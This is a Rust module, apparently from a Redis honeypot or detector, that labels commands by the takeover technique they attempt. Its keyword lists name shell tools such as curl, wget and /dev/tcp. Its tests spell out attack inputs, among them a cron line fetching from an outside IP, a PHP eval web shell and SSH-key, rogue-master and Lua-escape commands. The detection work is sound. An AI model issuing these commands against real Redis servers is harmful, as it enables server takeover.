//! What a command is meant to do to a real server: the ways in which Redis is taken over.

/// Names the attempt that a command is, if it is one. `dir` and `file` say where a dump would be written.
pub(super) fn of(words: &[String], dir: &str, file: &str) -> Option<&'static str> {
    let name = words.first()?.to_ascii_lowercase();
    let first = words.get(1).map(|word| word.to_ascii_lowercase()).unwrap_or_default();
    match name.as_str() {
        "slaveof" | "replicaof" if first != "no" => Some("foreign_master"),
        "module" if first == "load" || first == "loadex" => Some("module_load"),
        "eval" | "eval_ro" | "script" | "function" => script(words),
        "config" if first == "set" => setting(words.get(2..).unwrap_or_default()),
        "save" | "bgsave" => place(dir, file),
        "set" | "setex" | "append" | "mset" | "setnx" | "getset" => {
            words.get(1..).unwrap_or_default().iter().find_map(|word| payload(word))
        }
        "debug" | "shutdown" | "flushall" | "flushdb" => destroys(&name, &first),
        _ => None,
    }
}

/// Names what writing a dump to a place is meant for.
pub(super) fn place(dir: &str, file: &str) -> Option<&'static str> {
    let path = format!("{}/{file}", dir.trim_end_matches('/')).to_ascii_lowercase();
    if path.contains("/cron") {
        Some("cron_write")
    } else if path.contains("/.ssh") || path.ends_with("authorized_keys") {
        Some("ssh_key_write")
    } else if ends(&path, &[".php", ".jsp", ".jspx", ".asp", ".aspx"]) {
        Some("web_shell_write")
    } else if path.starts_with("/etc/") || ends(&path, &[".so"]) || path.contains("/systemd/") {
        Some("system_file_write")
    } else {
        None
    }
}

/// Whether a path in small letters ends in one of these.
fn ends(path: &str, with: &[&str]) -> bool {
    with.iter().any(|end| path.ends_with(end))
}

fn setting(pairs: &[String]) -> Option<&'static str> {
    pairs.chunks(2).find_map(|pair| {
        let name = pair.first()?.to_ascii_lowercase();
        let value = pair.get(1)?;
        match name.as_str() {
            "dir" => place(value, ""),
            "dbfilename" => place("", value),
            _ => None,
        }
    })
}

fn script(words: &[String]) -> Option<&'static str> {
    let escapes =
        ["package.", "io.popen", "os.execute", "loadlib", "luaopen_", "dofile", "loadfile"];
    let escape = |word: &String| escapes.iter().any(|mark| word.contains(mark));
    words.iter().skip(1).any(escape).then_some("lua_escape")
}

/// A value that is a line of cron, a key for SSH or a script.
fn payload(value: &str) -> Option<&'static str> {
    let fetches = ["curl ", "wget ", "/bin/sh", "/bin/bash", "bash -i", "/dev/tcp/"];
    if value.contains("* * * *") && fetches.iter().any(|mark| value.contains(mark)) {
        Some("cron_write")
    } else if value.contains("ssh-rsa AAAA") || value.contains("ssh-ed25519 AAAA") {
        Some("ssh_key_write")
    } else if value.contains("<?php") || value.contains("<%@") {
        Some("web_shell_write")
    } else {
        None
    }
}

fn destroys(name: &str, first: &str) -> Option<&'static str> {
    match name {
        "flushall" | "flushdb" => Some("data_wipe"),
        "shutdown" => Some("shutdown"),
        _ if matches!(first, "segfault" | "panic" | "restart" | "crash-and-recover") => {
            Some("shutdown")
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(command: &str, attempt: Option<&str>) {
        let words: Vec<String> = command.split('|').map(str::to_owned).collect();
        assert_eq!(of(&words, "/var/lib/redis", "dump.rdb"), attempt, "{command}");
    }

    #[test]
    fn each_way_has_its_name() {
        check("CONFIG|SET|dir|/var/spool/cron/", Some("cron_write"));
        check("config|set|maxmemory|0|dir|/root/.ssh", Some("ssh_key_write"));
        check("CONFIG|SET|dbfilename|authorized_keys", Some("ssh_key_write"));
        check("CONFIG|SET|dbfilename|x.php", Some("web_shell_write"));
        check("SLAVEOF|198.51.100.7|6379", Some("foreign_master"));
        check("SLAVEOF|NO|ONE", None);
        check("MODULE|LOAD|/tmp/exp.so", Some("module_load"));
        check("MODULE|LIST", None);
        check("EVAL|local f = package.loadlib('x','luaopen_io')|0", Some("lua_escape"));
        check("EVAL|return 1|0", None);
        check("SET|x|\n*/1 * * * * curl http://198.51.100.7/x\n", Some("cron_write"));
        check("SET|x|ssh-rsa AAAAB3Nza", Some("ssh_key_write"));
        check("SET|x|<?php eval($_POST[1]);", Some("web_shell_write"));
        check("SET|x|hello", None);
        check("FLUSHALL", Some("data_wipe"));
        check("SAVE", None);
        assert_eq!(place("/etc/cron.d", "root"), Some("cron_write"));
    }
}
